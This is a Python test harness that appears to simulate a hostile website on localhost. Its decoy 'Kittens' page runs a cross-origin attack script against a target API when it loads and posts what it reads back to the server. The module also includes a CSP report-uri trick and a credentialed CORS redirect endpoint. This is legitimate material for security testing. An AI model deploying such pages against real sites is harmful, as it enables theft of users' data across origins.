"""An attacker's web site: its page tries all of `foreign_page.js` against an API and brings home what it could read."""

import json
from collections.abc import Mapping, Sequence
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from queue import Queue
from threading import Thread
from types import TracebackType
from typing import Any, Self
from urllib.parse import parse_qs, urlsplit

SCRIPT = Path(__file__).with_suffix(".js").read_text(encoding="utf-8")
PATIENCE_S = 60.0
Tried = tuple[str, str, str]
"""A way, the address that was tried by it, and what the page could read of the answer."""


class Attacker:
    """Serves its page to whoever asks at 127.0.0.1, from `with` to the end of the block."""

    def __init__(self) -> None:
        self.target: Mapping[str, Any] = {}
        """What the page of now attacks; see `attack` in the script."""
        self.brought: Queue[bytes] = Queue()
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), type("Answers", (_Answers,), {"attacker": self}))
        self._thread = Thread(target=self._server.serve_forever, args=(0.02,), name="attacker")

    @property
    def port(self) -> int:
        """Where its page is."""
        return self._server.server_port

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, kind: type[BaseException] | None, e: BaseException | None, tb: TracebackType | None) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()

    def page(self) -> bytes:
        """The page. It attacks as soon as it is loaded."""
        run = f"attack({json.dumps(self.target)}).then((r) => fetch('/', {{method: 'POST', body: JSON.stringify(r)}}));"
        scripts = f"<script src=/script></script><script>{run}</script>"
        return f"<!doctype html><title>Kittens</title><body>{scripts}".encode()

    def report(self) -> Sequence[Tried]:
        """What the page brought home, once it has."""
        return [(way, url, got) for way, url, got in json.loads(self.brought.get(timeout=PATIENCE_S))]


class _Answers(BaseHTTPRequestHandler):
    attacker: Attacker

    def do_GET(self) -> None:
        if self.path.startswith("/redirect"):
            self._redirect()
            return
        is_script = self.path == "/script"
        self.send_response(200)
        self.send_header("Content-Type", f"text/{'javascript' if is_script else 'html'}; charset=utf-8")
        # The browser itself sends reports of what the page forbids, with a body that is JSON.
        target = self.attacker.target
        told = f"{target['api']}{target['changes']}?from={target['from']}&way=csp"
        self.send_header("Content-Security-Policy-Report-Only", f"img-src 'none'; report-uri {told}")
        self.end_headers()
        self.wfile.write(SCRIPT.encode() if is_script else self.attacker.page())

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        if self.path.startswith("/redirect"):
            self._redirect()
            return
        self.attacker.brought.put(body)
        self.send_response(204)
        self.end_headers()

    def _redirect(self) -> None:
        self.send_response(307)
        self.send_header("Location", parse_qs(urlsplit(self.path).query)["to"][0])
        self.send_header("Access-Control-Allow-Origin", self.headers.get("Origin", "*"))
        self.send_header("Access-Control-Allow-Credentials", "true")
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        """Nothing."""
